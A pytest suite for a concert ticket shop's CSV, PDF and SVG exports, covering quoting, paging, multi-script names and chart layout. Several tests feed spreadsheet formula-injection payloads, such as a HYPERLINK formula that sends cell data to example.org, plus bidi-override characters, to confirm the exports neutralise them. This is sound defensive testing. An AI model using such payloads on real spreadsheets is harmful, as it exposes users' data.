"""What organisers take away as files: CSV that spreadsheets read and do not run, in parts."""

import csv
import re
from collections.abc import Sequence
from datetime import date, timedelta
from io import StringIO
from typing import Any
from uuid import UUID

import pytest
from fpdf import FPDF

from chalicelib.platform.http.csv_files import as_csv
from chalicelib.shop.sales.charts import WIDTH, days_chart
from chalicelib.shop.sales.pdf import attendee_list
from tests.contract.sales.office import Office
from tests.support.shop import CUSTOMER


def rows_of(text: str) -> list[list[str]]:
    return list(csv.reader(StringIO(text, newline="")))


@pytest.mark.parametrize("what", ["orders", "attendees", "refunds", "sales/days", "sales/opening"])
def test_every_list_is_there_as_csv(office: Office, what: str) -> None:
    concert_id, standing = office.shop.on_sale()
    office.buy(CUSTOMER, (standing, 2), name="Guðrún, “Helga”\u202e")
    office.settle()
    answer = office.get(f"/concerts/{concert_id}/{what}?format=csv")
    assert answer.headers["content-type"] == "text/csv; charset=utf-8"
    assert answer.headers["content-disposition"].startswith("attachment; filename=")
    assert answer.text.endswith("\r\n")
    header, *rows = rows_of(answer.text)
    assert all(len(row) == len(header) for row in rows)
    assert rows_of(office.get(f"/concerts/{concert_id}/{what}?format=csv&bom=true").text)[0] == [
        "\ufeff" + header[0],
        *header[1:],
    ]


def test_parts_of_a_file_follow_each_other_by_their_links_and_make_the_whole(office: Office) -> None:
    concert_id, standing = office.shop.on_sale(quantity=50)
    for _ in range(5):
        office.buy(CUSTOMER, (standing, 3))
        office.shop.clock.advance(timedelta(seconds=1))
    office.settle()
    path = f"/concerts/{concert_id}/attendees"
    whole = office.get(f"{path}?format=csv&bom=true&limit=2000")
    assert "link" not in whole.headers
    text, query = "", "?format=csv&bom=true&limit=4"
    while query:
        part = office.get(path + query)
        text += part.text
        query = part.headers.get("link", "<>").partition("<")[2].partition(">")[0]
    assert text == whole.text
    assert len(rows_of(text)) == 1 + 15


@pytest.mark.parametrize("begins", ["=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠"])
def test_no_spreadsheet_takes_a_name_for_a_formula(begins: str) -> None:
    evil = f'{begins}HYPERLINK("http://example.org?"&A1,"Click")'
    text = as_csv(["name"], [[evil]], with_header=True, for_excel=False)
    assert rows_of(text) == [["name"], [f"'{evil}"]]


def test_cells_with_commas_quotes_and_line_breaks_are_quoted_as_the_rfc_says() -> None:
    text = as_csv(["a", "b"], [['x,"y"\nz', None], [1, "ø"]], with_header=True, for_excel=True)
    assert text == '\ufeffa,b\r\n"x,""y""\nz",\r\n1,ø\r\n'


NAMES = ("Guðrún Helgadóttir", "Ωμέγα", "Жанна", "שלום כהן", "محمد", "राम", "ქეთი", "ก้อง", "Ke$ha \u202e\u2066")


def printed(names: Sequence[str], monkeypatch: pytest.MonkeyPatch) -> tuple[list[str], bytes]:
    """Return the texts of the cells of a list of these names, and the file."""
    cells: list[str] = []
    cell = FPDF.cell

    def record(self: FPDF, width: float, height: float, text: str, **options: Any) -> Any:
        cells.append(text)
        return cell(self, width, height, text, **options)

    monkeypatch.setattr(FPDF, "cell", record)
    attendees = [
        {
            "buyer": {"name": name, "email": f"{number}@example.org"} if name else None,
            "ticket_id": str(number),
            "order_id": str(UUID(int=number)),
            "ticket_type_name": "Standing",
            "checked_in_at": None,
        }
        for number, name in enumerate(names)
    ]
    return cells, attendee_list("Björk", "today", attendees)


def test_names_of_many_scripts_are_printed_letter_by_letter_as_they_are(
    monkeypatch: pytest.MonkeyPatch, caplog: pytest.LogCaptureFixture
) -> None:
    cells, content = printed(NAMES, monkeypatch)
    assert content.startswith(b"%PDF-")
    assert {name.rstrip("\u202e\u2066") for name in NAMES} <= set(cells)
    assert not any("¤" in cell for cell in cells)
    assert caplog.text == ""


def test_letters_that_the_font_lacks_are_marked_and_the_page_says_so(
    monkeypatch: pytest.MonkeyPatch, caplog: pytest.LogCaptureFixture
) -> None:
    cells, _ = printed(["李小龍 Lee"], monkeypatch)
    assert "¤¤¤ Lee" in cells
    assert any("cannot show" in cell for cell in cells)
    assert caplog.text == ""


def test_a_list_is_by_name_with_the_erased_last_and_a_header_on_each_page(monkeypatch: pytest.MonkeyPatch) -> None:
    names = [f"Name {number:03}" for number in range(100)]
    cells, content = printed([*reversed(names), "", "Ängström " * 20], monkeypatch)
    in_order = [cell for cell in cells if cell.startswith(("Name ", "Äng"))]
    assert in_order[0].endswith("…")
    assert in_order[1:] == names
    assert cells.count("E-mail") == content.count(b"/Type /Page\n") == 3


def test_a_pdf_is_sent_to_whoever_says_that_they_take_one(office: Office) -> None:
    concert_id, standing = office.shop.on_sale()
    office.buy(CUSTOMER, (standing, 2))
    office.settle()
    path = f"/concerts/{concert_id}/attendees?format=pdf"
    answer = office.get(path, accept="application/pdf")
    assert (answer.status, answer.headers["content-type"]) == (200, "application/pdf")
    assert answer.text.startswith("%PDF-")
    refused = office.get(path)
    assert (refused.status, refused.body["errors"][0]["pointer"]) == (422, "/Accept")
    assert office.get(f"/concerts/{concert_id}/orders?format=pdf", accept="application/pdf").status == 422


@pytest.mark.parametrize("days", [1, 2, 30, 365])
def test_a_bar_is_never_a_wall_and_all_of_them_are_in_the_picture(days: int) -> None:
    first = date(2026, 1, 1)
    sold = [{"date": (first + timedelta(days=number)).isoformat(), "tickets": 7} for number in range(days)]
    rectangle = r'<rect x="([\d.]+)" y="[\d.]+" width="([\d.]+)"'
    bars = [(float(x), float(width)) for x, width in re.findall(rectangle, plot(days_chart("Björk", sold)))]
    assert len(bars) == days
    assert all(0 < width <= 60 and x + width <= WIDTH for x, width in bars)


def plot(chart: str) -> str:
    """The bars, without the legend before and the table after them."""
    return chart[chart.index("<path") : chart.index('role="table"')]


def test_a_cell_is_no_formula_where_lists_are_separated_by_semicolons() -> None:
    text = as_csv(["name"], [["Carla;=1+1"], ["Anna; Eva"]], with_header=True, for_excel=False)
    cells = [cell for row in csv.reader(StringIO(text, newline=""), delimiter=";") for cell in row]
    assert cells == ["name", "Carla", "'=1+1", "Anna", " Eva"]


def test_a_file_has_more_than_a_page_and_a_part_says_that_it_is_one(office: Office) -> None:
    concert_id, standing = office.shop.on_sale(quantity=100)
    for _ in range(8):
        office.buy(CUSTOMER, (standing, 3))
    office.settle()
    path = f"/concerts/{concert_id}/attendees?format=csv"
    assert len(rows_of(office.get(path).text)) == 1 + 24
    part = office.get(f"{path}&limit=5")
    assert (len(rows_of(part.text)), 'rel="next"' in part.headers["link"]) == (1 + 5, True)
    office.shop.clock.advance(timedelta(days=1))
    office.buy(CUSTOMER, (standing, 3))
    office.settle()
    days = f"/concerts/{concert_id}/sales/days?format=svg"
    assert "in part" not in office.get(days).text
    assert "in part" in office.get(f"{days}&limit=1").text


def test_people_are_found_by_what_a_keyboard_has_and_sorted_as_people_do(office: Office) -> None:
    concert_id, standing = office.shop.on_sale()
    office.buy(CUSTOMER, (standing, 1), name="Søren Łukasz")
    office.settle()
    assert len(office.get(f"/concerts/{concert_id}/orders?q=soren").items) == 1


def test_a_title_that_is_too_long_is_cut_where_it_is_seen() -> None:
    chart = days_chart("A" * 200, [])
    assert f'<title id="title">{"A" * 200}' in chart
    assert f">{'A' * 83}…</text>" in chart
